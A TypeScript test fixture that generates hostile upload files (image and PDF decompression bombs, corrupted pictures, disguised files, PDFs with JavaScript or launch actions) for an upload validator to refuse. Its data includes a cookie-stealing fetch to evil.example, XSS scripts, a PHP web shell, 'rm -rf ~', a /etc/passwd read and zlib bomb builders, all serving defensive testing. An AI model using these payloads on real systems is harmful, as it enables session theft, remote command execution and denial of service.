import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { plainPdf } from './papers.ts'

// Files as attackers send them, made from nothing: no virus and no broken device is kept in the project.

/** A file, the name it is sent under, and the fault (file-words.ts) that it must be refused with. */
export interface HostileFile {
  what: string
  bytes: Buffer
  name: string
  fault: string
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [...(await bombs()), ...(await brokenPictures()), ...(await disguises()), ...hostilePdfs()].map(
    ([what, name, fault, bytes]) => ({ what, name, fault, bytes: Buffer.from(bytes) }),
  )
}

type Row = [what: string, name: string, fault: string, bytes: Buffer | string]

const plain = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#b31' } })
const jpeg = () => plain().jpeg().toBuffer()
const png = () => plain().png().toBuffer()
const webp = () => plain().webp().toBuffer()

// ── Pictures that are small to send and huge to unpack.

async function bombs(): Promise<Row[]> {
  const progressive = await plain(1500, 1500).jpeg({ progressive: true }).toBuffer()
  const lastScan = progressive.subarray(progressive.lastIndexOf(Buffer.from('ffda', 'hex')), -2)
  return [
    ['PNG of 30,000 × 30,000', 'pan.png', 'tooManyPixels', hugePng(30_000, 30_000)],
    ['PNG one row over the limit', 'pan.png', 'tooManyPixels', hugePng(10_000, 5001)],
    [
      'PNG that claims 2 billion × 2 billion',
      'pan.png',
      'damagedPicture',
      hugePng(2 ** 31 - 1, 2 ** 31 - 1, 1),
    ],
    ['JPEG that claims 30,000 × 30,000', 'pan.jpg', 'tooManyPixels', resizedJpeg(await jpeg(), 30_000)],
    ['JPEG that claims 65,500 × 65,500', 'pan.jpg', 'tooManyPixels', resizedJpeg(await jpeg(), 65_500)],
    ['WebP that claims 8,000 × 8,000', 'pan.webp', 'tooManyPixels', await largeWebp(8000)],
    ['WebP that claims 16,384 × 16,384', 'pan.webp', 'damagedPicture', await largeWebp(16_384)],
    [
      'progressive JPEG with 5,000 scans',
      'pan.jpg',
      'tooManyPixels',
      Buffer.concat([
        progressive.subarray(0, -2),
        ...Array<Buffer>(5000).fill(lastScan),
        Buffer.from('ffd9', 'hex'),
      ]),
    ],
    ['APNG', 'pan.png', 'animated', await apng()],
    ['animated WebP', 'pan.webp', 'animated', await animatedWebp()],
  ]
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, crc] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  crc.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, crc])
}

/** A whole PNG in black and white, one bit a pixel; `rows` of it are there. */
function hugePng(width: number, height: number, rows = height): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const row = rows === 1 ? 100 : Math.ceil(width / 8) + 1
  const pixels = deflateSync(Buffer.alloc(row * rows))
  return pngOf(chunk('IHDR', head), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0)))
}

const pngOf = (...chunks: Buffer[]) => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks])

/** Sets both sides in the marker SOF0. */
function resizedJpeg(small: Buffer, side: number): Buffer {
  const changed = Buffer.from(small)
  const frame = changed.indexOf(Buffer.from('ffc0', 'hex'))
  changed.writeUInt16BE(side, frame + 5)
  changed.writeUInt16BE(side, frame + 7)
  return changed
}

/** Sets both sides, 14 bits each, in the head of a lossless WebP. */
async function largeWebp(side: number): Promise<Buffer> {
  const changed = await plain().webp({ lossless: true }).toBuffer()
  const head = changed.indexOf('VP8L') + 9
  const sides = (side - 1) | ((side - 1) << 14)
  changed.writeUInt32LE(((changed.readUInt32LE(head) & 0xf0000000) | sides) >>> 0, head)
  return changed
}

async function apng(): Promise<Buffer> {
  const whole = await png()
  const control = Buffer.alloc(8)
  control.writeUInt32BE(100_000)
  return Buffer.concat([whole.subarray(0, 33), chunk('acTL', control), whole.subarray(33)])
}

function animatedWebp(): Promise<Buffer> {
  const frames = Array.from({ length: 5 }, (_, n) => Buffer.alloc(20 * 20 * 3, n * 50))
  return sharp(Buffer.concat(frames), { raw: { width: 20, height: 100, channels: 3, pageHeight: 20 } })
    .webp({ loop: 0, delay: [40, 40, 40, 40, 40] })
    .toBuffer()
}

// ── Pictures that are not whole.

async function brokenPictures(): Promise<Row[]> {
  const [aJpeg, aPng, aWebp] = [await noise().jpeg().toBuffer(), await noise().png().toBuffer(), await webp()]
  const wrongPixels = Buffer.from(aPng)
  wrongPixels.fill(0x55, aPng.length >> 1, (aPng.length >> 1) + 200)
  return [
    ['JPEG cut off', 'pan.jpg', 'damagedPicture', aJpeg.subarray(0, aJpeg.length >> 1)],
    ['PNG cut off', 'pan.png', 'damagedPicture', aPng.subarray(0, aPng.length >> 1)],
    ['WebP cut off', 'pan.webp', 'damagedPicture', aWebp.subarray(0, aWebp.length >> 1)],
    ['three bytes of a JPEG', 'pan.jpg', 'damagedPicture', Buffer.from('ffd8ff', 'hex')],
    ['the head of a PNG alone', 'pan.png', 'damagedPicture', pngOf()],
    ['the head of a WebP alone', 'pan.webp', 'damagedPicture', 'RIFF\x10\0\0\0WEBPVP8 '],
    ['PNG with wrong pixels', 'pan.png', 'damagedPicture', wrongPixels],
    ['noise that begins as a JPEG', 'pan.jpg', 'damagedPicture', startsAs('ffd8ffe0')],
    ['noise that begins as a PNG', 'pan.png', 'damagedPicture', startsAs('89504e470d0a1a0a')],
  ]
}

const noise = () =>
  sharp({
    create: {
      width: 120,
      height: 90,
      channels: 3,
      background: '#888',
      noise: { type: 'gaussian', mean: 128, sigma: 50 },
    },
  })

/** The same noise each time. */
function startsAs(hex: string): Buffer {
  const bytes = Buffer.alloc(4000)
  for (let at = 0, seed = 2083; at < bytes.length; at++) {
    seed = (seed * 1103515245 + 12345) % 2 ** 31
    bytes[at] = seed >> 16
  }
  Buffer.from(hex, 'hex').copy(bytes)
  return bytes
}

// ── What is something else, or something else besides.

async function disguises(): Promise<Row[]> {
  const html = '<!doctype html><html><script>alert(document.cookie)</script></html>'
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
  const laughs = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
  const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
  const others: [string, string, Buffer | string][] = [
    ['HTML as a picture', 'pan.jpg', html],
    ['HTML as a PDF', 'pan.pdf', html],
    ['SVG as a picture', 'pan.png', svg],
    ['SVG as a PDF', 'pan.pdf', svg],
    ['XML with entities in entities', 'pan.pdf', laughs],
    ['JavaScript as a PDF', 'pan.pdf', 'fetch("https://evil.example/"+document.cookie)'],
    ['a zip archive as a picture', 'pan.jpg', zip('pan.jpg')],
    ['a Word document as a PDF', 'pan.pdf', zip('[Content_Types].xml', 'word/document.xml')],
    ['a Java archive as a PDF', 'pan.pdf', zip('META-INF/MANIFEST.MF', 'Evil.class')],
    ['GIF', 'pan.gif', 'GIF89a\x01\0\x01\0\0\0\0;'],
    ['GIF that is a script', 'pan.jpg', 'GIF89a/*\x01\0*/=1;alert(1)//'],
    ['BMP', 'pan.jpg', `BM${'\0'.repeat(60)}`],
    ['TIFF', 'pan.jpg', 'II*\0\x08\0\0\0\0\0'],
    ['HEIC', 'pan.jpg', '\0\0\0\x18ftypheic\0\0\0\0mif1heic'],
    ['a program of Linux', 'pan.pdf', '\x7fELF\x02\x01\x01'],
    ['a program of Windows', 'pan.pdf', 'MZ\x90\0\x03'],
    ['a shell script', 'pan.pdf', '#!/bin/sh\nrm -rf ~\n'],
    ['PHP', 'pan.jpg', '<?php system($_GET["c"]);'],
    ['the test virus EICAR', 'pan.pdf', eicar],
    ['PostScript', 'pan.pdf', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'],
    ['gzip', 'pan.pdf', Buffer.from('1f8b0800', 'hex')],
    ['RTF', 'pan.pdf', '{\\rtf1\\object}'],
    ['plain text', 'pan.pdf', 'PAN 601234567'],
    ['text in UTF-16', 'pan.pdf', Buffer.from('\ufeff<html>', 'utf16le')],
    ['PDF behind HTML', 'pan.pdf', Buffer.concat([Buffer.from(html), plainPdf()])],
    ['PDF behind one byte', 'pan.pdf', Buffer.concat([Buffer.from(' '), plainPdf()])],
  ]
  return [
    ...others.map(([what, name, bytes]): Row => [what, name, 'noPaper', bytes]),
    ['JPEG with HTML in its comment', 'pan.jpg', 'disguised', withComment(await jpeg(), html)],
    [
      'JPEG with a zip archive behind it',
      'pan.jpg',
      'disguised',
      Buffer.concat([await jpeg(), zip('evil.js')]),
    ],
    ['JPEG with a PDF behind it', 'pan.jpg', 'disguised', Buffer.concat([await jpeg(), plainPdf()])],
    ['PNG with PHP in a text', 'pan.png', 'disguised', await pngWithText('<?php system($_GET["c"]);')],
    [
      'WebP with a script behind it',
      'pan.webp',
      'disguised',
      Buffer.concat([await webp(), Buffer.from(html)]),
    ],
    ['PDF with a zip archive behind it', 'pan.pdf', 'disguised', Buffer.concat([plainPdf(), zip('evil.js')])],
    ['PDF with HTML behind it', 'pan.pdf', 'disguised', Buffer.concat([plainPdf(), Buffer.from(html)])],
    ['PDF with HTML in a comment', 'pan.pdf', 'disguised', plainPdf(`%${html}\n`)],
    [
      'PDF with the test virus behind it',
      'pan.pdf',
      'disguised',
      Buffer.concat([plainPdf(), Buffer.from(eicar)]),
    ],
    ['PDF with a zip archive in it', 'pan.pdf', 'disguised', plainPdf(part('/Length 100', zip('evil.js')))],
  ]
}

/** An archive of empty files. Source: APPNOTE 4.3. */
function zip(...names: string[]): Buffer {
  const local = names.map((name) => {
    const head = Buffer.alloc(30)
    head.write('PK\x03\x04', 'latin1')
    head.writeUInt16LE(name.length, 26)
    return Buffer.concat([head, Buffer.from(name)])
  })
  const central = names.map((name) => {
    const head = Buffer.alloc(46)
    head.write('PK\x01\x02', 'latin1')
    head.writeUInt16LE(name.length, 28)
    return Buffer.concat([head, Buffer.from(name)])
  })
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(names.length, 8)
  end.writeUInt16LE(names.length, 10)
  return Buffer.concat([...local, ...central, end])
}

function withComment(picture: Buffer, text: string): Buffer {
  const head = Buffer.from('fffe0000', 'hex')
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([picture.subarray(0, 2), head, Buffer.from(text), picture.subarray(2)])
}

async function pngWithText(text: string): Promise<Buffer> {
  const whole = await png()
  return Buffer.concat([
    whole.subarray(0, 33),
    chunk('tEXt', Buffer.from(`Comment\0${text}`)),
    whole.subarray(33),
  ])
}

// ── PDFs that do something, or hide something.

function hostilePdfs(): Row[] {
  const script = '/S /JavaScript /JS (app.alert\\(1\\))'
  const catalog = (entries: string) => plainPdf(`4 0 obj\n<< ${entries} >>\nendobj\n`)
  const packed = deflateSync(Buffer.from(`5 0 << ${script} >>`))
  const active: [string, Buffer][] = [
    ['JavaScript', catalog(script)],
    ['JavaScript, its name in escapes', catalog('/S /#4a#61vaScr#69pt /JS (x)')],
    ['something to do when it is opened', catalog('/OpenAction << /S /Named /N /Print >>')],
    ['something to do when it is opened, elsewhere', catalog('/OpenAction 5 0 R')],
    ['a program to start', catalog('/S /Launch /F (cmd.exe)')],
    ['a file in it', catalog('/Type /EmbeddedFile')],
    ['an XFA form', catalog('/AcroForm << /XFA [(template) 5 0 R] >>')],
    ['rich media', catalog('/Subtype /RichMedia')],
    ['a form that is sent', catalog('/S /SubmitForm /F (https://evil.example/)')],
    ['another file to open', catalog('/S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf)')],
    [
      'JavaScript in a packed object',
      plainPdf(part('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed)),
    ],
    [
      'JavaScript in a part that says it is a picture',
      plainPdf(part('/Subtype /Image /Filter /FlateDecode', packed)),
    ],
    ['JavaScript packed twice', plainPdf(part('/Filter [/FlateDecode /FlateDecode]', deflateSync(packed)))],
    [
      'JavaScript written as differences of rows',
      plainPdf(
        part(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>',
          deflateSync(asDifferences(`5 0 << ${script} >>`, 8)),
        ),
      ),
    ],
    [
      'JavaScript in a part within a comment',
      plainPdf(Buffer.concat([Buffer.from('% '), part('/Filter /FlateDecode', packed)])),
    ],
  ]
  const opaque: [string, Buffer][] = [
    ['a part in ASCII85', plainPdf(part('/Filter [/ASCII85Decode /FlateDecode]', Buffer.from('Gar8O~>')))],
    ['a part in hexadecimal', plainPdf(part('/Filter /ASCIIHexDecode', Buffer.from('2f4a>')))],
    ['a part in LZW', plainPdf(part('/Filter /#4cZWDecode', Buffer.from('800b', 'hex')))],
    ['a part in LZW, in short', plainPdf(part('/Filter [ /LZW ]', Buffer.from('800b', 'hex')))],
    ['a part in run lengths, in short', plainPdf(part('/Filter /RL', Buffer.from('80', 'hex')))],
    ['a filter that stands elsewhere', plainPdf(part('/Filter 7 0 R', packed))],
    ['a filter that stands elsewhere, in short', plainPdf(part('/F 7 0 R', packed))],
    [
      'a filter that stands elsewhere, in what looks like fonts in a comment',
      plainPdf(
        Buffer.concat([
          Buffer.from('7 0 obj\n/A85\nendobj\n'),
          part('/Length 9 % /Font <<\n/F 7 0 R >> %', Buffer.from('Gar8O~>')),
        ]),
      ),
    ],
    [
      'a filter that stands in a packed object, in what looks like fonts in a comment',
      plainPdf(
        Buffer.concat([
          part(
            '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
            deflateSync(Buffer.from('7 0 /ASCII85#44ecode')),
          ),
          part('/Length 9 % /Font <<\n/F 7 0 R >> %', Buffer.from('Gar8O~>')),
        ]),
      ),
    ],
    ['a filter that stands elsewhere, behind NUL', plainPdf(part('/Filter\0 7 0 R', packed))],
    ['a filter in short, behind a comment', plainPdf(part('/F %\n 7 0 R', packed))],
    ['a filter whose number is cut by a comment', plainPdf(part('/F 7%\n 0 R', packed))],
    ['a part that unpacks to 2 GB', plainPdf(part('/Filter /FlateDecode', packedZeros(2000)))],
    [
      'bombs that unpack to 30 MB each',
      plainPdf(Buffer.concat(Array(5).fill(part('/Filter /FlateDecode', packedZeros(30))))),
    ],
    [
      'a bomb packed in a bomb',
      plainPdf(part('/Filter [/FlateDecode /FlateDecode]', deflateSync(packedZeros(2000)))),
    ],
    ['a part packed five times', plainPdf(part('/Filter /FlateDecode', packedOften(5)))],
    ['a part whose end is broken', plainPdf(part('/Filter /FlateDecode', brokenAtTheEnd(script)))],
    ['30,000 parts', plainPdf('stream\nendstream\n'.repeat(30_000))],
    [
      'a part that begins unclearly',
      plainPdf('4 0 obj\n<< /Length 4 >>\nstream %\nabcd\nendstream\nendobj\n'),
    ],
  ]
  return [
    ...active.map(([what, bytes]): Row => [`PDF with ${what}`, 'pan.pdf', 'activePdf', bytes]),
    ...opaque.map(([what, bytes]): Row => [`PDF with ${what}`, 'pan.pdf', 'opaquePdf', bytes]),
    ['PDF under a password', 'pan.pdf', 'lockedPdf', plainPdf('trailer << /Encrypt 9 0 R >>\n')],
    [
      'PDF under a password, in escapes',
      'pan.pdf',
      'lockedPdf',
      plainPdf('trailer << /#45ncrypt 9 0 R >>\n'),
    ],
    ['PDF cut off', 'pan.pdf', 'damagedPdf', plainPdf().subarray(0, -30)],
    ['the head of a PDF alone', 'pan.pdf', 'damagedPdf', '%PDF-1.7\n'],
    ['PDF without an object', 'pan.pdf', 'damagedPdf', '%PDF-1.7\nstartxref\n0\n%%EOF'],
  ]
}

/** A part of a PDF, with its description. */
function part(description: string, bytes: Buffer): Buffer {
  const head = `4 0 obj\n<< ${description} /Length ${bytes.length} >>\nstream\n`
  return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream\nendobj\n')])
}

/** Each row of so many bytes as its difference to the one above, the way PNG writes them. */
function asDifferences(text: string, columns: number): Buffer {
  const plain = Buffer.from(text.padEnd(Math.ceil(text.length / columns) * columns))
  const rows = Array.from({ length: plain.length / columns }, (_, y) =>
    Buffer.from([
      2,
      ...plain
        .subarray(y * columns, (y + 1) * columns)
        .map((byte, x) => byte - (y > 0 ? plain[(y - 1) * columns + x]! : 0)),
    ]),
  )
  return Buffer.concat(rows)
}

/** So many megabytes of zeros as zlib packs them, without ever having them: the packed megabyte is repeated. */
export function packedZeros(megabytes: number): Buffer {
  const one = deflateSync(Buffer.alloc(1024 * 1024))
  // Between the head of zlib and its checksum, flushed to whole bytes, so that it can stand many times.
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH })
  const length = megabytes * 1024 * 1024
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE((((length % 65521) << 16) | 1) >>> 0)
  return Buffer.concat([
    one.subarray(0, 2),
    ...Array<Buffer>(megabytes).fill(block),
    Buffer.from('0300', 'hex'),
    checksum,
  ])
}

function packedOften(times: number): Buffer {
  let bytes: Buffer = Buffer.from('deep')
  for (let n = 0; n < times; n++) bytes = deflateSync(bytes)
  return bytes
}

/** Readers show what came before the fault. */
function brokenAtTheEnd(text: string): Buffer {
  const bytes = deflateSync(Buffer.from(text))
  bytes.fill(0xff, bytes.length - 4)
  return bytes
}
